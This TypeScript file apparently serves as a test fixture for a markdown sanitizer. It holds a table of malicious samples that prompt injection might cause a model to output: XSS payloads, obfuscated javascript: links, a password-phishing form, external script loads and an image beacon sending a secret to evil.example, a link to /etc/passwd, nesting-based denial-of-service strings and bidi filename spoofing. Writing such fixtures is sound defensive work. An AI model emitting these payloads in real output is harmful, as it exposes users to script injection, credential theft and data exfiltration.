/** Malicious markdown that prompt injection may cause a model to write. */
export const maliciousSamples: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script>\n\n<script src="https://evil.example/x.js"></script>',
  handlers: '<img src=x onerror=alert(1)> <svg onload=alert(1)> <a href="#" onclick="alert(1)">x</a>',
  halfTags: '<scr<script>ipt>alert(1)</scr</script>ipt> <img src="x" onerror="alert(1)"',
  frames:
    '<iframe src="javascript:alert(1)"></iframe><object data="x"></object><embed src=x><base href="//evil.example">',
  style:
    '<style>*{display:none}</style><p style="position:fixed;inset:0">over all</p><link rel=stylesheet href=//evil.example>',
  forms: '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  schemes:
    '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>alert(1)</script>) [d](vbscript:x) [e](file:///etc/passwd)',
  hiddenSchemes:
    '[a](java\tscript:alert(1)) [b](&#106;avascript:alert(1)) [c](javascript&colon;alert(1)) [d](\u0001javascript:alert(1)) [e](<javascript:alert(1)>)',
  autolinks:
    '<javascript:alert(1)> javascript:alert(1) <data:text/html,x> www.example.com http://example.com/"onmouseover="alert(1)',
  references:
    '[x]\n\n[x]: javascript:alert(1)\n[y]: <data:text/html,x> "t"\n\n[y] [__proto__] [constructor]\n\n[__proto__]: https://a.example',
  images:
    '![x](https://evil.example/pixel.png?secret=1) ![y](javascript:alert(1)) ![z](data:image/svg+xml,<svg onload=alert(1)>)\n\n![r][r]\n\n[r]: https://evil.example/r.png',
  titles:
    '[a](https://a.example "x\\" onmouseover=\\"alert(1)") ![b](https://a.example/b.png "\'><script>alert(1)</script>")',
  code: '```html"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```\n\n`<img src=x onerror=alert(1)>`',
  tables:
    '| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | `|` |',
  entities:
    '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#0; &#xD800; &#x110000;',
  comments: '<!-- <script>alert(1)</script> --> <!--> <?php x ?> <![CDATA[<script>]]> <!DOCTYPE x>',
  deep: `${'> '.repeat(60)}deep\n\n${'- '.repeat(60)}deep\n\n${'*'.repeat(400)}a${'*'.repeat(400)} ${'['.repeat(300)}x${']('.repeat(300)}`,
  directions: 'a\u202Ecod.exe\u202C b\u2066\u2067c\u2069 d\u200Be',
};
